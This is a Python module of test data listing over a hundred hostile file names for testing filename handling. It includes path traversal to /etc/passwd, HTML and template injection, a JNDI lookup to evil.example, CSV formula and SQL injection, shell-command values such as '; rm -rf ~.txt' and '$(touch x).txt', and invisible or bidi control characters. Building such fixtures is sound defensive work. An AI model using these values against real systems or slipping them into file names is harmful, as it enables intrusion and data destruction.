# ruff: noqa: E501 - names are easier to read side by side
"""Names that somebody with bad intentions gives to files: more than a hundred, for every door a name comes through."""

from __future__ import annotations

import unicodedata

_DEVICES = ("CON", "PRN", "AUX", "NUL", "COM1", "LPT9", "CONIN$", "CLOCK$")
_WAYS_OUT = (
    "..", ".", "../x.txt", "../../x.txt", "../../../../../../etc/passwd", "..\\..\\x.txt", "..\\", "....//x.txt",
    "..;/x.txt", "%2e%2e%2fx.txt", "..%2fx.txt", "..%5cx.txt", "..%c0%afx.txt", "．．/x.txt", "‥/x.txt", "a/../../x.txt",
    "a/../..", "./../x.txt", "/etc/passwd", "//server/share/x.txt", "\\\\server\\share\\x.txt", "/", "\\", "//", "/..",
    "C:\\Windows\\x.txt", "C:/x.txt", "C:x.txt", "c:", "\\\\?\\C:\\x.txt", "\\\\.\\pipe\\x", "file:///etc/passwd",
    "~/x.txt", "~root/x.txt", "$HOME/x.txt", "%USERPROFILE%\\x.txt", "upload/../../x.txt", "originals/../../x", "x.txt/",
    "x.zip!/../../y.txt", "x.zip!/y.txt", "x.txt:stream", "x.txt::$DATA", "catalogue.sqlite", "../catalogue.sqlite",
)  # fmt: skip
_UNSEEN = (
    "a\x00b.txt", "\x00", "x.txt\x00.pdf", "a\nb.txt", "a\r\nb.txt", "a\tb.txt", "\n", "a\x1b[31mb.txt", "\x1b]0;x\x07.txt",
    "\x1b[2J.txt", "a\x07b.txt", "a\x08\x08b.txt", "a\x7fb.txt", "a\x85b.txt", "a\u2028b.txt", "a\u2029b.txt",
    "\u202efdp.exe.txt", "a\u202egpj.txt", "\u2066x\u2069.txt", "a\u200bb.txt", "\u200b", "\ufeffa.txt", "a\u00adb.txt",
    "\U000e0041\U000e0042.txt", "a\u0000\u202e.txt", " ", "  x.txt  ", "\u3000", "a .", "a...", "...", ". .",
)  # fmt: skip
_SCRIPTS = (
    "<script>alert(1)</script>.txt", "<img src=x onerror=alert(1)>.txt", "\"><svg onload=alert(1)>.txt", "'-alert(1)-'.txt",
    "![x](http://evil.example/x.png).md", "[x](javascript:alert(1)).md", "[[x]].txt", "`x`.txt", "**x**.txt", "# x.txt",
    "- x.txt", "| a | b |.txt", "&lt;b&gt;.txt", "&#x3c;b&#x3e;.txt", ":smile:.txt", ":material/delete:.txt", ":red[x].txt",
    "$\\href{http://evil.example}{x}$.txt", "http://evil.example/x.txt", "www.evil.example", "[bold]x[/bold].txt",
    "{0.__class__}.txt", "{name}.txt", "%s%n.txt", "%(x)s.txt", "${jndi:ldap://evil.example/x}.txt", "{{7*7}}.txt",
    "=cmd|'/c calc'!A1.csv", "@SUM(1).csv", "'; DROP TABLE document; --.txt", "x' OR '1'='1.txt", "a\"b.txt", "a*b?.txt",
    "-rf", "--help", "-o x.txt", "; rm -rf ~.txt", "$(touch x).txt", "`touch x`.txt", "| sh.txt", "&& x.txt", "> x.txt",
    "!x.txt", "a;filename=\"b.txt", "a\"; filename=\"b.txt",
)  # fmt: skip
_LETTERS = (
    "报告（终稿）.txt", "報告.txt", "😀👩‍👩‍👧‍👦.txt", "🇨🇳.txt", "é.txt", unicodedata.normalize("NFD", "é.txt"), "ｆｕｌｌ．ｔｘｔ", "ﬁ.txt", "Z̸͉͐a̷l̶g̵o̷.txt",
    "İi.txt", "ß.TXT", "𠮷.txt", "مرحبا.txt", "שלום.txt", "a\u0301\u0301\u0301.txt", "\u0301.txt", "x.TXT", "X.txt",
)  # fmt: skip
_LONG = ("a" * 4096 + ".txt", "书" * 1400 + ".txt", "a/" * 2000 + "x.txt", "." * 4096, "a" * 300, "é" * 4000 + ".md")
_LONE = ("\udce9\udcb1.txt", "\ud800.txt", "a\udfffb.txt", "\udc80")  # what no encoding can write

NAMES = (
    "", *_WAYS_OUT, *_UNSEEN, *_SCRIPTS, *_LETTERS, *_LONG, *_LONE,
    *(f"{device}{ending}" for device in _DEVICES for ending in ("", ".txt")),
)  # fmt: skip
